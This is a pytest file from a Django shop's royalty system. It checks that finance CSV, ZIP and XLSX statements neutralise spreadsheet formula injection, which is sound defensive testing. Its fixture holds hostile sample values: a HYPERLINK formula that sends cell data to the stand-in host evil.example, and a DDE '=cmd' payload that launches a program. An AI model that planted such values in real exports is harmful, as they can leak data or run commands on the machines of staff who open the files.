"""A product and a designer named to attack finance's spreadsheets are bought, recorded and exported: no
document holds a cell a spreadsheet program would run (OWASP "CSV injection")."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from django.utils import timezone

from shop.accounts.roles import Role
from shop.checkout.services import checkout_complete
from shop.orders.models import Order
from shop.orders.services import order_fulfil, order_mark_paid
from shop.royalties.models import MuseumBankAccount
from shop.royalties.payouts import royalty_settlement_issue
from shop.royalties.periods import period_current, period_label, period_previous
from shop.royalties.services import royalty_period_close, royalty_record_order
from tests.factories import (
    DesignFactory,
    LicenceFactory,
    MuseumFactory,
    ProductFactory,
    RelicFactory,
    UserFactory,
    VariantFactory,
)
from tests.shop.checkout.helpers import ready_checkout
from tests.shop.royalties.factories import finance_user
from tests.shop.royalties.statement_helpers import body, csv_rows, unsafe_cells, xlsx_parts

pytestmark = pytest.mark.django_db

EVIL_PRODUCT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_DESIGNER = "+1+2"


@pytest.fixture
def bought(settings):
    """Bought through checkout, paid, recorded, shipped 40 days ago (available); last month closed."""
    settings.ROYALTY_MIN_PAYOUT_MINOR = 1
    museum = MuseumFactory(name_en="@Museum of Attacks", name_zh="-博物馆")
    MuseumBankAccount.objects.create(
        museum=museum, account_name="=cmd|' /C calc'!A0", bank_name="中国银行", account_number="6222000011112222"
    )
    licence = LicenceFactory(relic=RelicFactory(museum=museum, name_en="-Relic", name_zh="=文物"))
    designer = UserFactory(display_name=EVIL_DESIGNER, roles=[Role.DESIGNER])
    design = DesignFactory(designer=designer, usages=[(licence, 10_000)])
    product = ProductFactory(name_en=EVIL_PRODUCT, name_zh="=1+1", design=design, category=design.category)
    variant = VariantFactory(product=product, sku="@SUM(A1:A9)", stock=5)
    order = checkout_complete(checkout_token=ready_checkout(variant=variant, quantity=2).token).order
    order_mark_paid(order=order)
    assert royalty_record_order(order_id=order.pk) == 3  # museum, designer, platform
    order_fulfil(
        order=Order.objects.get(pk=order.pk), lines=None, carrier="SF Express", tracking_number="SF1234567890123"
    )
    Order.objects.filter(pk=order.pk).update(fulfilled_at=timezone.now() - datetime.timedelta(days=40))
    last_month = period_previous(period_current())
    royalty_period_close(period=last_month)
    royalty_settlement_issue(period=last_month)
    return {"museum": museum, "designer": designer, "month": period_label(period_current()), "last": last_month}


def _get(client, url: str) -> bytes:
    return body(client.get(url))


def test_no_csv_cell_would_run_as_a_formula(client, bought):
    client.force_login(finance_user())
    month = bought["month"]
    payees = [f"museum-{bought['museum'].pk}", f"designer-{bought['designer'].pk}", "platform"]
    documents = {payee: csv_rows(_get(client, f"/finance/statements/{month}/{payee}.csv")) for payee in payees}
    archive = zipfile.ZipFile(io.BytesIO(_get(client, f"/finance/statements/{month}.zip")))
    for name in archive.namelist():
        documents[name] = csv_rows(archive.read(name))
    documents["settlement"] = csv_rows(_get(client, f"/finance/settlements/{period_label(bought['last'])}.csv"))
    documents["preview"] = csv_rows(_get(client, "/finance/settlement.csv"))
    assert len(documents) == 8
    for name, rows in documents.items():
        assert unsafe_cells(rows) == [], name
    cells = {cell for rows in documents.values() for row in rows for cell in row}
    # Neutralised, not dropped: the text is all there after the apostrophe.
    assert f"'{EVIL_PRODUCT} =1+1" in cells
    assert f"'{EVIL_DESIGNER}" in cells
    assert "'@SUM(A1:A9)" in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'-Relic") for cell in cells)


@pytest.mark.parametrize("who", ["museum", "designer", "platform"])
def test_no_xlsx_cell_is_a_formula(client, bought, who):
    client.force_login(finance_user())
    payee = "platform" if who == "platform" else f"{who}-{bought[who].pk}"
    parts = xlsx_parts(_get(client, f"/finance/statements/{bought['month']}/{payee}.xlsx"))
    sheets = [xml for name, xml in parts.items() if name.startswith("xl/worksheets/")]
    assert len(sheets) == 2
    for xml in parts.values():
        assert "<f>" not in xml and "<f " not in xml
    lines = parts["xl/worksheets/sheet2.xml"]
    # The names are kept as they were typed, in string cells (never evaluated).
    assert '<c r="F2" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?"&amp;A1,"x") =1+1</t></is></c>' in lines
    assert '<c r="E2" t="inlineStr"><is><t>@SUM(A1:A9)</t></is></c>' in lines
    if who == "designer":
        assert "<t>+1+2 (designer-" in parts["xl/worksheets/sheet1.xml"]
